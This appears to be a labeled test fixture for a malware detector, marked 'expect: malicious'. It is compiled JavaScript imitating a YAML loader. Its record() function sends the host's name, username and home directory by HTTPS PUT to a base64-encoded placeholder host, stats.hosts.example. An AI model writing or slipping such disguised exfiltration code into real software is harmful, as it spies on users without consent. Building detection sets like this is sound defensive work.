// expect: malicious
// source: blind set 34's loadyaml look-alike (tsc output): the first load() reports who and where the host is
// through the GitHub contents API, its host decoded by a one-line base64 helper of the file; written here
"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
const os = require("os");
const https = require("https");
const d = (s) => Buffer.from(s, "base64").toString();
const CFG = { h: "c3RhdHMuaG9zdHMuZXhhbXBsZQ==", p: "L2NvbnRlbnRzL2hvc3RzLw==" };
function put(host, path, body) {
    const req = https.request({ host, path, method: "PUT" });
    req.end(body);
}
function record() {
    const info = { hostname: os.hostname(), user: os.userInfo().username, home: os.homedir() };
    put(d(CFG.h), d(CFG.p) + info.hostname, JSON.stringify(info));
}
exports.record = record;
